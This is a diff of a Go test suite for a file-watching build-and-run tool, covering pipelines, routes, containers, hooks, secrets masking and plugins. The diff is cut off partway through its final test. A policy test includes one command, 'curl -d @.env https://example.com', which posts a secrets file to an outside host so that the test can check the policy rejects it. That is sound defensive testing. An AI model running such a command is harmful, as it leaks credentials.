@@ -1,8 +1,16 @@
-package main
+package godev
 
 import (
-	"bytes"
+	"context"
+	"errors"
+	"io/ioutil"
+	"net/http"
+	"net/http/httptest"
+	"os"
 	"path"
+	"regexp"
+	"runtime"
+	"strings"
 	"testing"
 	"time"
 
@@ -13,7 +21,7 @@ import (
 type MainTestSuite struct {
 	suite.Suite
 	godev *GoDev
-	logs  bytes.Buffer
+	logs  syncBuffer
 }
 
 func TestMainTestSuite(t *testing.T) {
@@ -21,7 +29,7 @@ func TestMainTestSuite(t *testing.T) {
 }
 
 func (s *MainTestSuite) SetupTest() {
-	s.godev = InitGoDev(&Config{
+	s.godev = New(&Config{
 		CommandArguments:  []string{"test", "arg"},
 		CommandsDelimiter: ",",
 		ExecGroups: []string{
@@ -38,7 +46,8 @@ func (s *MainTestSuite) SetupTest() {
 
 func (s *MainTestSuite) Test_createPipeline_assignsEnvVarsCorrectly() {
 	t := s.T()
-	pipeline := s.godev.createPipeline()
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
 	for _, executionGroup := range pipeline {
 		for _, command := range executionGroup.commands {
 			assert.Len(t, command.config.Environment, 2)
@@ -46,9 +55,290 @@ func (s *MainTestSuite) Test_createPipeline_assignsEnvVarsCorrectly() {
 	}
 }
 
+func (s *MainTestSuite) Test_createPipeline_resolvesProfile() {
+	t := s.T()
+	s.godev.config.ConfigFile = "godev.yaml"
+	s.godev.config.Profile = "debug"
+	s.godev.config.Profiles = map[string]ProfileConfig{
+		"debug": ProfileConfig{
+			Env:  map[string]string{"LOG_LEVEL": "debug"},
+			Exec: []string{"dlv debug"},
+		},
+	}
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.Len(t, pipeline, 1)
+	assert.Equal(t, "dlv", pipeline[0].commands[0].config.Application)
+	assert.Equal(t, []string{"A=1", "B=2", "LOG_LEVEL=debug"}, pipeline[0].commands[0].config.Environment)
+}
+
+func (s *MainTestSuite) Test_createPipeline_assignsExecutionOptions() {
+	t := s.T()
+	s.godev.config.ExecGroups = []string{
+		"[*.go] dir=./cmd/api,env=PORT=8080:go build -o /tmp/api .,env=B=3:go vet .",
+		"dir=/srv,env=A=2:dir=web:npm start",
+	}
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.Equal(t, []string{"*.go"}, pipeline[0].onlyOn)
+	build := pipeline[0].commands[0].config
+	assert.Equal(t, "go", build.Application)
+	assert.Equal(t, "/work/directory/cmd/api", build.Directory)
+	assert.Equal(t, []string{"A=1", "B=2", "PORT=8080"}, build.Environment)
+	vet := pipeline[0].commands[1].config
+	assert.Equal(t, "/work/directory/cmd/api", vet.Directory)
+	assert.Equal(t, []string{"A=1", "B=2", "PORT=8080", "B=3"}, vet.Environment)
+	web := pipeline[1].commands[0].config
+	assert.Equal(t, "npm", web.Application)
+	assert.Equal(t, "/srv/web", web.Directory)
+	assert.Equal(t, []string{"A=1", "B=2", "A=2"}, web.Environment)
+	assert.Equal(t, []string{"A=1", "B=2"}, []string(s.godev.config.EnvVars), "expected the shared environment to be left untouched")
+}
+
+func (s *MainTestSuite) Test_createPipeline_assignsOutputLabels() {
+	t := s.T()
+	s.godev.config.ExecGroups = []string{"go build -o bin/app,dir=web:npm run build", "bin/app"}
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.Equal(t, "1:go build", pipeline[0].commands[0].config.OutputLabel)
+	assert.Equal(t, "1:npm run", pipeline[0].commands[1].config.OutputLabel)
+	assert.Equal(t, "2:app", pipeline[1].commands[0].config.OutputLabel)
+	assert.NotEqual(t, pipeline[0].commands[0].config.OutputLabelColor, pipeline[0].commands[1].config.OutputLabelColor)
+	s.godev.config.NoPrefix = true
+	pipeline, err = s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.Empty(t, pipeline[0].commands[0].config.OutputLabel)
+}
+
+func (s *MainTestSuite) Test_createPipeline_rawOutput() {
+	t := s.T()
+	s.godev.config.RawOutput = true
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.True(t, pipeline[0].commands[0].config.RawOutput)
+	assert.Empty(t, pipeline[0].commands[0].config.OutputLabel, "expected raw output to be left unprefixed")
+	s.godev.config.ReadyPattern = regexp.MustCompile("listening")
+	_, err = s.godev.createPipeline()
+	assert.NotNil(t, err, "expected the ready pattern to be rejected")
+}
+
+func (s *MainTestSuite) Test_initialiseSecrets() {
+	t := s.T()
+	s.godev.secrets = memorySecretStore{"registry-token": "t0k3n"}
+	s.godev.config.EnvVars = []string{"A=1", "REGISTRY_TOKEN=secret:registry-token"}
+	assert.Nil(t, s.godev.initialiseSecrets())
+	assert.Equal(t, []string{"A=1", "REGISTRY_TOKEN=t0k3n"}, []string(s.godev.config.EnvVars))
+	assert.Nil(t, s.godev.logWatchModeConfigurations())
+	assert.Contains(t, s.logs.String(), "REGISTRY_TOKEN=[secret]")
+	assert.NotContains(t, s.logs.String(), "t0k3n")
+	s.godev.config.EnvVars = []string{"WEBHOOK_SECRET=secret:webhook"}
+	assert.NotNil(t, s.godev.initialiseSecrets())
+}
+
+func (s *MainTestSuite) Test_initialiseLogOutputs() {
+	t := s.T()
+	directory, err := ioutil.TempDir("", "godev-main-log-outputs")
+	assert.Nil(t, err)
+	defer os.RemoveAll(directory)
+	defer s.godev.state.CloseLoggerOutputs()
+	s.godev.config.LogOutputs = []string{path.Join(directory, "godev.log")}
+	assert.Nil(t, s.godev.initialiseLogOutputs())
+	s.godev.logger.Info("written to the log file")
+	contents, err := ioutil.ReadFile(path.Join(directory, "godev.log"))
+	assert.Nil(t, err)
+	assert.Contains(t, string(contents), "written to the log file")
+	s.godev.state.CloseLoggerOutputs()
+	s.godev.config.LogOutputs = []string{path.Join(directory, "godev.log"), path.Join(directory, "missing", "godev.log")}
+	assert.NotNil(t, s.godev.initialiseLogOutputs())
+	assert.Empty(t, s.godev.state.getLoggerOutputs(), "expected the outputs to be closed when one cannot be logged to")
+}
+
+func (s *MainTestSuite) Test_createPipeline_assignsRoutes() {
+	t := s.T()
+	s.godev.config.ExecGroups = []string{"name=assets,dir=web:npm run build", "name=build:go build", "bin/app"}
+	s.godev.config.Routes = map[string][]string{"web/**": []string{"assets"}, "**/*.go": []string{"build"}}
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.Equal(t, "assets", pipeline[0].name)
+	assert.Equal(t, []string{"web/**"}, pipeline[0].routes)
+	assert.Equal(t, []string{"**/*.go"}, pipeline[1].routes)
+	assert.Empty(t, pipeline[2].routes)
+	s.godev.config.ExecGroups = []string{"go vet,name=vet:go vet ./..."}
+	_, err = s.godev.createPipeline()
+	assert.NotNil(t, err, "expected named commands to be rejected")
+}
+
+func (s *MainTestSuite) Test_createPipeline_addsAssets() {
+	t := s.T()
+	s.godev.config.ExecGroups = []string{"go build -o bin/app", "bin/app"}
+	s.godev.config.Assets = map[string]AssetConfig{"css": AssetConfig{Watch: []string{"styles/**"}, Run: "dir=web:sass main.scss main.css"}}
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.Len(t, pipeline, 3)
+	assert.Equal(t, "css", pipeline[0].name)
+	assert.Equal(t, []string{"styles/**"}, pipeline[0].routes)
+	assert.Equal(t, []string{"sass main.scss main.css"}, pipeline[0].GetCommandStrings())
+	assert.Equal(t, "/work/directory/web", pipeline[0].commands[0].config.Directory)
+	assert.Empty(t, pipeline[1].routes)
+	pipeline, err = s.godev.createPipeline()
+	assert.Nil(t, err)
+	assert.Len(t, pipeline, 3, "expected assets to be added once")
+}
+
+func (s *MainTestSuite) Test_createPipeline_expandsTemplates() {
+	t := s.T()
+	s.godev.config.BuildOutput = "/work/directory/bin/app"
+	s.godev.config.ExecGroups = []string{"go build -o {{.BuildOutput}}", "{{.BuildOutput}} --dir {{.WatchDirectory}}"}
+	s.godev.config.WatchDirectory = "/work"
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.Equal(t, "{{.BuildOutput}}", pipeline[0].commands[0].config.Arguments[2], "expected arguments to be expanded when the command runs")
+	assert.Equal(t, "/work/directory/bin/app", pipeline[1].commands[0].config.Application)
+	assert.Equal(t, CommandTemplateValue("/work"), pipeline[1].commands[0].config.Session.WatchDirectory)
+	s.godev.config.ExecGroups = []string{"{{.ChangedFiles}}"}
+	_, err = s.godev.createPipeline()
+	assert.NotNil(t, err, "expected commands which render nothing to be rejected")
+	s.godev.config.ExecGroups = []string{"go list -f {{.Dir}} ./..."}
+	pipeline, err = s.godev.createPipeline()
+	assert.Nil(t, err)
+	assert.Equal(t, "{{.Dir}}", pipeline[0].commands[0].config.Arguments[2], "expected other templates to be passed on to the command")
+}
+
+func (s *MainTestSuite) Test_createPipeline_assignsDependencies() {
+	t := s.T()
+	s.godev.config.ExecGroups = []string{"name=build:go build", "name=lint:go vet ./...", "name=test:go test ./...", "bin/app"}
+	s.godev.config.DependsOn = map[string][]string{"lint": []string{}, "test": []string{"build"}}
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.Equal(t, []int{}, pipeline[1].dependencies)
+	assert.Equal(t, []int{0}, pipeline[2].dependencies)
+	assert.Equal(t, []int{2}, pipeline[3].dependencies)
+	s.godev.config.DependsOn = map[string][]string{"build": []string{"test"}, "test": []string{"build"}}
+	_, err = s.godev.createPipeline()
+	assert.NotNil(t, err, "expected dependency cycles to be rejected")
+}
+
+func (s *MainTestSuite) Test_createPipeline_runsImagesInContainers() {
+	t := s.T()
+	s.godev.config.ContainerRuntime = "podman"
+	s.godev.config.ExecGroups = []string{`image=namely/protoc-all\:1.29,env=C=3:protoc --go_out=. api.proto,image=node\:16,dir=web:npm run build`, "go build"}
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	protoc := pipeline[0].commands[0].config
+	assert.Equal(t, "podman", protoc.Application)
+	assert.Equal(t, "/work/directory", protoc.Directory)
+	assert.Contains(t, protoc.Arguments, "/work/directory:/work/directory")
+	assert.Equal(t, []string{"-e", "A", "-e", "B", "-e", "C", "-e", CommandChangedFilesEnvVar, "namely/protoc-all:1.29", "protoc", "--go_out=.", "api.proto"}, protoc.Arguments[len(protoc.Arguments)-12:])
+	npm := pipeline[0].commands[1].config
+	assert.Equal(t, "/work/directory/web", npm.Directory)
+	assert.Equal(t, []string{"node:16", "npm", "run", "build"}, npm.Arguments[len(npm.Arguments)-4:])
+	assert.Equal(t, "go", pipeline[1].commands[0].config.Application)
+}
+
+func (s *MainTestSuite) Test_createPipeline_groupsOutput() {
+	t := s.T()
+	s.godev.config.ExecGroups = []string{"output=grouped:go vet ./...,output=live:golint ./...", "go build"}
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.True(t, pipeline[0].commands[0].config.GroupOutput)
+	assert.False(t, pipeline[0].commands[1].config.GroupOutput)
+	assert.False(t, pipeline[1].commands[0].config.GroupOutput)
+}
+
+func (s *MainTestSuite) Test_createPipeline_assignsTimeouts() {
+	t := s.T()
+	s.godev.config.Timeout = 5 * time.Minute
+	s.godev.config.ExecGroups = []string{"go vet ./...,timeout=1m:golint ./...", "go build", "timeout=1h:bin/app"}
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.Equal(t, 5*time.Minute, pipeline[0].commands[0].config.Timeout)
+	assert.Equal(t, time.Minute, pipeline[0].commands[1].config.Timeout)
+	assert.Equal(t, 5*time.Minute, pipeline[1].commands[0].config.Timeout)
+	assert.Equal(t, time.Hour, pipeline[2].commands[0].config.Timeout)
+	s.godev.config.ExecGroups = []string{"go build", "bin/app"}
+	pipeline, err = s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.Equal(t, time.Duration(0), pipeline[1].commands[0].config.Timeout, "expected the application not to time out")
+}
+
+func (s *MainTestSuite) Test_createPipeline_assignsWhenPatterns() {
+	t := s.T()
+	s.godev.config.ExecGroups = []string{"go vet ./...,when=**/*.proto:protoc --go_out=. api.proto,when=go.mod|go.sum:go mod download", "when=*.go:go build,golint ./..."}
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.Nil(t, pipeline[0].commands[0].config.When)
+	assert.Equal(t, []string{"**/*.proto"}, pipeline[0].commands[1].config.When)
+	assert.Equal(t, []string{"go.mod", "go.sum"}, pipeline[0].commands[2].config.When)
+	assert.Equal(t, []string{"*.go"}, pipeline[1].commands[1].config.When, "expected commands to use the when patterns of their group")
+}
+
+func (s *MainTestSuite) Test_createPipeline_appliesPolicy() {
+	t := s.T()
+	s.godev.config.Policy = &Policy{Allow: []string{"go", "bin/*"}, DenyNetwork: []string{"bin/*"}}
+	s.godev.config.ExecGroups = []string{"go build -o bin/app", "bin/app"}
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.False(t, pipeline[0].commands[0].config.DenyNetwork)
+	assert.True(t, pipeline[1].commands[0].config.DenyNetwork)
+	s.godev.config.ExecGroups = []string{"go build -o bin/app", "curl -d @.env https://example.com"}
+	_, err = s.godev.createPipeline()
+	assert.NotNil(t, err, "expected commands which the policy does not allow to be rejected")
+	assert.Contains(t, err.Error(), "'curl' is not allowed by the policy")
+}
+
+func (s *MainTestSuite) Test_createPipeline_escapesDelimiters() {
+	t := s.T()
+	s.godev.config.ExecGroups = []string{`curl -H 'Accept: a, b' localhost,printf %s a\,b`}
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.Len(t, pipeline[0].commands, 2)
+	assert.Equal(t, []string{"-H", "Accept: a, b", "localhost", "test", "arg"}, pipeline[0].commands[0].config.Arguments)
+	assert.Equal(t, []string{"%s", "a,b", "test", "arg"}, pipeline[0].commands[1].config.Arguments)
+}
+
+func (s *MainTestSuite) Test_createPipeline_assignsMinIntervals() {
+	t := s.T()
+	s.godev.config.MinIntervals = map[int]time.Duration{2: time.Minute}
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.Equal(t, time.Duration(0), pipeline[0].minInterval)
+	assert.Equal(t, time.Minute, pipeline[1].minInterval)
+}
+
+func (s *MainTestSuite) Test_createPipeline_supervisesTheLastGroup() {
+	t := s.T()
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.False(t, pipeline[1].supervised)
+	assert.True(t, pipeline[2].supervised)
+	s.godev.config.RunTest = true
+	pipeline, err = s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.False(t, pipeline[2].supervised, "expected tests not to be supervised")
+	s.godev.config.RunTest = false
+	s.godev.config.Once = true
+	pipeline, err = s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.False(t, pipeline[2].supervised, "expected pipelines run once not to be supervised")
+}
+
+func (s *MainTestSuite) Test_createPipeline_restartsTheLastGroup() {
+	t := s.T()
+	s.godev.config.RestartLimit = 3
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.Equal(t, 0, pipeline[2].restartLimit, "expected commands not to be restarted without --restart")
+	s.godev.config.Restart = true
+	pipeline, err = s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.Equal(t, 0, pipeline[1].restartLimit)
+	assert.Equal(t, 3, pipeline[2].restartLimit)
+}
+
 func (s *MainTestSuite) Test_createPipeline_separatesCommandsCorrectly() {
 	t := s.T()
-	pipeline := s.godev.createPipeline()
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
 	assert.Len(t, pipeline[0].commands, 3)
 	assert.Len(t, pipeline[1].commands, 2)
 	assert.Len(t, pipeline[2].commands, 1)
@@ -56,7 +346,8 @@ func (s *MainTestSuite) Test_createPipeline_separatesCommandsCorrectly() {
 
 func (s *MainTestSuite) Test_createPipeline_separatesCommandArgsCorrectly() {
 	t := s.T()
-	pipeline := s.godev.createPipeline()
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
 	// echo 'a b' c
 	assert.Len(t, pipeline[0].commands[0].config.Arguments, 2)
 	assert.Equal(t, "a b", pipeline[0].commands[0].config.Arguments[0])
@@ -81,11 +372,29 @@ func (s *MainTestSuite) Test_createPipeline_separatesCommandArgsCorrectly() {
 	assert.Equal(t, "arg", pipeline[2].commands[0].config.Arguments[2])
 }
 
+func (s *MainTestSuite) Test_createPipeline_runsCommandsInTheShell() {
+	t := s.T()
+	s.godev.config.ExecGroups = []string{"timeout=1m:sh:go test ./... | tee test.log", "bin/app > app.log"}
+	pipeline, err := s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.Equal(t, append(getShellCommand()[1:], "go test ./... | tee test.log"), pipeline[0].commands[0].config.Arguments)
+	assert.Equal(t, time.Minute, pipeline[0].commands[0].config.Timeout, "expected options to come before the sh: prefix")
+	assert.Equal(t, []string{">", "app.log", "test", "arg"}, pipeline[1].commands[0].config.Arguments, "expected commands to be split without --shell")
+	assert.True(t, pipeline[0].commands[0].config.Shell)
+	assert.False(t, pipeline[1].commands[0].config.Shell)
+	s.godev.config.Shell = true
+	pipeline, err = s.godev.createPipeline()
+	assert.Nil(s.T(), err)
+	assert.Equal(t, getShellCommand()[0], pipeline[1].commands[0].config.Application)
+	assert.Equal(t, append(getShellCommand()[1:], "bin/app > app.log test arg"), pipeline[1].commands[0].config.Arguments)
+	assert.True(t, pipeline[1].commands[0].config.Shell)
+}
+
 func (s *MainTestSuite) Test_eventHandler() {
 	t := s.T()
 	// set exec groups to none so that no pipeline triggers
 	s.godev.config.ExecGroups = []string{}
-	s.godev.initialiseRunner()
+	assert.Nil(s.T(), s.godev.initialiseRunner(context.Background()))
 	s.godev.eventHandler(&[]WatcherEvent{
 		WatcherEvent{Op: 1},
 		WatcherEvent{Op: 2},
@@ -101,6 +410,49 @@ func (s *MainTestSuite) Test_eventHandler() {
 	assert.Contains(t, logs, "CHMOD")
 }
 
+func (s *MainTestSuite) Test_eventHandler_skipsChangesWithoutRoutes() {
+	t := s.T()
+	s.godev.config.ExecGroups = []string{"name=build:echo build"}
+	s.godev.config.Routes = map[string][]string{"**/*.go": []string{"build"}}
+	s.godev.config.WatchDirectory = "/work/directory"
+	assert.Nil(s.T(), s.godev.initialiseRunner(context.Background()))
+	s.logs.Reset()
+	s.godev.eventHandler(&[]WatcherEvent{WatcherEvent{Name: "/work/directory/README.md", Op: 2}})
+	assert.Contains(t, s.logs.String(), "no execution group matches the changes - skipping the pipeline")
+}
+
+func (s *MainTestSuite) Test_eventHandler_skipsChangesByScript() {
+	t := s.T()
+	s.godev.config.ExecGroups = []string{"echo build"}
+	s.godev.config.SkipScript, _ = CompileScript(`all(files, "**/*.md")`)
+	s.godev.config.WatchDirectory = "/work/directory"
+	assert.Nil(s.T(), s.godev.initialiseRunner(context.Background()))
+	s.logs.Reset()
+	s.godev.eventHandler(&[]WatcherEvent{WatcherEvent{Name: "/work/directory/docs/README.md", Op: 2}})
+	assert.Contains(t, s.logs.String(), `the skip script all(files, "**/*.md") matches the changes - skipping the pipeline`)
+}
+
+func (s *MainTestSuite) Test_initialisePlugins() {
+	t := s.T()
+	if runtime.GOOS == "windows" {
+		t.Skip("the test plugin is a shell script")
+	}
+	directory, err := ioutil.TempDir("", "godev-main")
+	assert.Nil(t, err)
+	defer os.RemoveAll(directory)
+	assert.Nil(t, ioutil.WriteFile(path.Join(directory, "policy.sh"), []byte(testPluginScript), 0755))
+	s.godev.config.WorkDirectory = directory
+	s.godev.config.Plugins = []string{"./policy.sh"}
+	s.godev.initialisePlugins()
+	defer s.godev.plugins[0].Stop()
+	assert.Contains(t, s.logs.String(), "using plugin 'policy' with 1 step(s)")
+	assert.Equal(t, "echo policy", s.godev.config.ExecGroups[2])
+	assert.Len(t, s.godev.config.ExecGroups, 4)
+	assert.Nil(s.T(), s.godev.initialiseRunner(context.Background()))
+	s.godev.eventHandler(&[]WatcherEvent{WatcherEvent{Name: path.Join(directory, "frozen.go"), Op: 2}})
+	assert.Contains(t, s.logs.String(), "plugin 'policy' vetoed the pipeline: frozen")
+}
+
 func (s *MainTestSuite) Test_initialiseInitialisers() {
 	t := s.T()
 	initialisers := s.godev.initialiseInitialisers()
@@ -116,15 +468,271 @@ func (s *MainTestSuite) Test_initialiseInitialisers() {
 	assert.Contains(t, keys, "makefile")
 	assert.Contains(t, keys, "main.go")
 	assert.Contains(t, keys, "go.mod")
+	s.godev.config.InitTemplate = "cli"
+	for _, initialiser := range s.godev.initialiseInitialisers() {
+		if initialiser.GetKey() == "main.go" {
+			assert.Equal(t, dataMainDotgoCLI, string(initialiser.(*FileInitialiser).Data))
+		}
+	}
+}
+
+func (s *MainTestSuite) Test_initialiseCerts() {
+	t := s.T()
+	directory, err := ioutil.TempDir("", "godev-main")
+	assert.Nil(t, err)
+	defer os.RemoveAll(directory)
+	s.godev.config.ProjectDirectory = directory
+	s.godev.initialiseCerts()
+	assert.Equal(t, []string{"A=1", "B=2"}, []string(s.godev.config.EnvVars))
+	certs := InitCerts(&CertsConfig{Directory: path.Join(directory, ProjectCertsDirectoryName)})
+	assert.Nil(t, certs.Generate())
+	s.godev.initialiseCerts()
+	assert.Equal(t, append(certs.GetEnvironment(), "A=1", "B=2"), []string(s.godev.config.EnvVars))
 }
 
 func (s *MainTestSuite) Test_initialiseRunner() {
 	t := s.T()
 	assert.Nil(t, s.godev.runner)
-	s.godev.initialiseRunner()
+	assert.Nil(s.T(), s.godev.initialiseRunner(context.Background()))
 	assert.NotNil(t, s.godev.runner)
 }
 
+func (s *MainTestSuite) TestMain_returnsExitCodes() {
+	t := s.T()
+	assert.Equal(t, 0, Main([]string{"godev", "version"}))
+	assert.Equal(t, 1, Main([]string{"godev", "--not-a-flag"}), "expected inputs which cannot be parsed to fail")
+}
+
+func (s *MainTestSuite) TestGetExitCode() {
+	t := s.T()
+	assert.Equal(t, 0, GetExitCode(nil))
+	assert.Equal(t, 1, GetExitCode(ErrStopped))
+	assert.Equal(t, 1, GetExitCode(errors.New("unable to start the proxy")))
+	assert.Equal(t, 3, GetExitCode(&ExitError{Code: 3}))
+	assert.Equal(t, "godev has ended with exit code 3", (&ExitError{Code: 3}).Error())
+}
+
+// initialiseSession gives the suite's godev a session in a temporary
+// directory which runs :execGroups
+func (s *MainTestSuite) initialiseSession(execGroups ...string) {
+	directory := s.T().TempDir()
+	s.godev.config.RunDefault = true
+	s.godev.config.ExecGroups = execGroups
+	s.godev.config.CommandArguments = nil
+	s.godev.config.KillTimeout = time.Second
+	s.godev.config.ProjectDirectory = path.Join(directory, ".godev")
+	s.godev.config.Rate = 100 * time.Millisecond
+	s.godev.config.WatchDirectory = directory
+	s.godev.config.WorkDirectory = directory
+}
+
+func (s *MainTestSuite) TestRun_returnsTheExitCodeOfOnce() {
+	t := s.T()
+	defer s.logs.Reset()
+	s.initialiseSession("sh -c 'exit 3'")
+	s.godev.config.Once = true
+	assert.Equal(t, &ExitError{Code: 3}, s.godev.Run(context.Background()))
+	s.initialiseSession("true")
+	assert.Nil(t, s.godev.Run(context.Background()))
+}
+
+func (s *MainTestSuite) TestRun_stopsWhenTheContextIsDone() {
+	t := s.T()
+	s.initialiseSession("sleep 10")
+	ctx, cancel := context.WithTimeout(context.Background(), 500*time.Millisecond)
+	defer cancel()
+	startedAt := time.Now()
+	assert.Nil(t, s.godev.Run(ctx))
+	assert.True(t, time.Since(startedAt) < 5*time.Second, "expected the application to be terminated")
+	assert.False(t, s.godev.runner.IsRunning())
+}
+
+func (s *MainTestSuite) TestRun_returnsErrors() {
+	t := s.T()
+	s.initialiseSession("bin/app")
+	s.godev.config.OnlyGroups = []string{"missing"}
+	assert.Contains(t, s.godev.Run(context.Background()).Error(), "unable to select the execution groups to run")
+}
+
+func (s *MainTestSuite) Test_handleBuildComplete() {
+	t := s.T()
+	binary := path.Join(t.TempDir(), "app")
+	s.godev.config.BuildReport = true
+	s.godev.config.BuildOutput = binary
+	assert.Nil(t, s.godev.initialiseRunner(context.Background()))
+	s.godev.report.logger.SetOutput(&s.logs)
+	assert.Nil(t, ioutil.WriteFile(binary, []byte("app"), 0755))
+	s.godev.handleBuildComplete(&Event{Name: EventBuildCompleted, Pipeline: 1, Failed: true})
+	assert.NotContains(t, s.logs.String(), "binary size", "expected failed builds not to be reported")
+	s.godev.handleBuildComplete(&Event{Name: EventBuildCompleted, Pipeline: 2})
+	assert.Contains(t, s.logs.String(), "binary size of '"+binary+"'")
+}
+
+func (s *MainTestSuite) TestRun_reportsBuildsWhileTheApplicationRuns() {
+	t := s.T()
+	s.initialiseSession("sh -c 'echo app > bin'", "sleep 10")
+	s.godev.config.BuildReport = true
+	s.godev.config.BuildOutput = path.Join(s.godev.config.WorkDirectory, "bin")
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	completed := make(chan *Event, 4)
+	s.godev.events.Subscribe(EventBuildCompleted, func(event *Event) { completed <- event })
+	stopped := make(chan error)
+	go func() { stopped <- s.godev.Run(ctx) }()
+	select {
+	case event := <-completed:
+		assert.False(t, event.Failed)
+		assert.Zero(t, s.godev.runner.GetLastRun().Duration, "expected the pipeline to still be running the application")
+	case <-time.After(5 * time.Second):
+		assert.Fail(t, "expected the build to complete while the application runs")
+	}
+	cancel()
+	assert.Nil(t, <-stopped)
+}
+
+func (s *MainTestSuite) Test_runHooks() {
+	t := s.T()
+	directory := t.TempDir()
+	s.godev.config.WorkDirectory = directory
+	s.godev.config.PreHook = `sh -c 'echo "$GODEV_CHANGED_FILES" > pre'`
+	s.godev.config.PostHook = `sh -c 'echo "$GODEV_RESULT $GODEV_EXIT_CODE $GODEV_PIPELINE $A" > post'`
+	assert.Nil(s.T(), s.godev.initialiseRunner(context.Background()))
+	s.godev.runner.config.PreHook([]string{"main.go"})
+	pre, err := ioutil.ReadFile(path.Join(directory, "pre"))
+	assert.Nil(t, err)
+	assert.Equal(t, "main.go\n", string(pre))
+	s.godev.runPostHook(&Event{Name: EventBuildCompleted, Pipeline: 3})
+	post, err := ioutil.ReadFile(path.Join(directory, "post"))
+	assert.Nil(t, err)
+	assert.Equal(t, "success 0 3 1\n", string(post))
+	s.godev.runPostHook(&Event{Name: EventBuildCompleted, Pipeline: 4, Failed: true})
+	post, _ = ioutil.ReadFile(path.Join(directory, "post"))
+	assert.Equal(t, "terminated 0 4 1\n", string(post), "expected builds failing without a failed command to be terminated")
+	s.godev.runner.setExitCode(2)
+	s.godev.runPostHook(&Event{Name: EventBuildCompleted, Pipeline: 5, Failed: true})
+	post, _ = ioutil.ReadFile(path.Join(directory, "post"))
+	assert.Equal(t, "failure 2 5 1\n", string(post))
+	s.godev.config.PostHook = "false"
+	s.godev.runPostHook(&Event{Name: EventBuildCompleted, Pipeline: 6})
+	assert.Contains(t, s.logs.String(), "post-hook 'false' failed: exit status 1")
+}
+
+func (s *MainTestSuite) TestRun_runsPostHookWhenTheBuildCompletes() {
+	t := s.T()
+	s.initialiseSession("true", "sleep 10")
+	s.godev.config.PostHook = `sh -c 'echo "$GODEV_RESULT $GODEV_EXIT_CODE $GODEV_PIPELINE" >> post'`
+	post := path.Join(s.godev.config.WorkDirectory, "post")
+	readPost := func(expected string) string {
+		contents, _ := ioutil.ReadFile(post)
+		for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline) && string(contents) != expected; time.Sleep(50 * time.Millisecond) {
+			contents, _ = ioutil.ReadFile(post)
+		}
+		return string(contents)
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	stopped := make(chan error)
+	go func() { stopped <- s.godev.Run(ctx) }()
+	assert.Equal(t, "success 0 1\n", readPost("success 0 1\n"), "expected the post-hook to run while the application keeps running")
+	s.godev.runner.Trigger()
+	assert.Equal(t, "success 0 1\nsuccess 0 2\n", readPost("success 0 1\nsuccess 0 2\n"), "expected stopping the application not to change the result")
+	cancel()
+	assert.Nil(t, <-stopped)
+}
+
+func (s *MainTestSuite) Test_publishFailedTests() {
+	t := s.T()
+	assert.Nil(s.T(), s.godev.initialiseRunner(context.Background()))
+	s.godev.recorder = InitRunRecorder()
+	s.godev.recorder.Stdout.Write([]byte("--- FAIL: TestA (0.00s)\n--- PASS: TestB (0.00s)\nFAIL\tgithub.com/a/b\t0.01s\n"))
+	s.logs.Reset()
+	s.godev.publishFailedTests(3)
+	assert.Contains(t, s.logs.String(), "pipeline 3: 1 test(s) failed: github.com/a/b TestA")
+	s.godev.recorder.Reset()
+	s.logs.Reset()
+	s.godev.publishFailedTests(4)
+	assert.NotContains(t, s.logs.String(), "failed")
+}
+
+func (s *MainTestSuite) Test_notifyDownstream() {
+	t := s.T()
+	var sources []string
+	downstream := httptest.NewServer(http.HandlerFunc(func(response http.ResponseWriter, request *http.Request) {
+		assert.Equal(t, http.MethodPost, request.Method)
+		assert.Equal(t, "/trigger", request.URL.Path)
+		sources = append(sources, request.URL.Query().Get("source"))
+		response.Write([]byte(`{"triggered":true}`))
+	}))
+	defer downstream.Close()
+	s.godev.config.WatchDirectory = "/path/to/library"
+	s.godev.config.NotifyAddresses = []string{downstream.URL}
+	s.godev.notifyDownstream()
+	assert.Equal(t, []string{"/path/to/library"}, sources)
+	assert.Contains(t, s.logs.String(), "notified downstream godev at '"+downstream.URL+"'")
+
+	downstream.Close()
+	s.godev.notifyDownstream()
+	assert.Contains(t, s.logs.String(), "unable to notify downstream godev")
+}
+
+func (s *MainTestSuite) TestRun_notifiesDownstreamWhileTheApplicationRuns() {
+	t := s.T()
+	triggered := make(chan string, 4)
+	downstream := httptest.NewServer(http.HandlerFunc(func(response http.ResponseWriter, request *http.Request) {
+		triggered <- request.URL.Query().Get("source")
+		response.Write([]byte(`{"triggered":true}`))
+	}))
